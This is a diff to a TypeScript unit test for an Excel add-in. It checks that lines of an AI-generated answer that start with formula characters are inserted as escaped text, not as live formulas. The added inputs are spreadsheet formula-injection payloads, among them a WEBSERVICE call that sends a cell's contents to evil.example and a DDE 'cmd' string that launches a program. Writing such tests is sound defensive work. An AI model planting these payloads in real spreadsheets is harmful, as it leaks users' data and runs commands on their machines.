@@ -192,9 +192,13 @@ describe('Excel host: insertAnswer (office-addin-mock)', () => {
   it('flags an unsupported claim it cannot place on a row of its own, and never writes a formula from the answer', async () => {
     excelWithSheets();
     const claims: Claim[] = [{ text: 'Margins doubled.', verdict: 'unsupported', sources: [], reason: 'no source says so' }];
-    await insertAnswer({ answer: '=HYPERLINK("http://evil.example")\nMargins, in short, doubled.', citations: [], claims, includeCitations: true, target: { kind: 'sheet', name: 'Intellio answer' } });
+    await insertAnswer({ answer: '=HYPERLINK("http://evil.example")\n+WEBSERVICE("https://evil.example/?d="&A1)\n-2+3+cmd|\' /C calc\'!A0\n@SUM(1+1)\n\t=1+1\nMargins, in short, doubled.', citations: [], claims, includeCitations: true, target: { kind: 'sheet', name: 'Intellio answer' } });
     assert.deepEqual(sheets['Intellio answer'].block.values, [
       ['\'=HYPERLINK("http://evil.example")', ''],
+      ['\'+WEBSERVICE("https://evil.example/?d="&A1)', ''],
+      ["'-2+3+cmd|' /C calc'!A0", ''],
+      ["'@SUM(1+1)", ''],
+      ["'\t=1+1", ''],
       ['Margins, in short, doubled.', ''],
       ['“Margins doubled.”', '⚠ Not found in its sources: no source says so'],
       ['', ''],
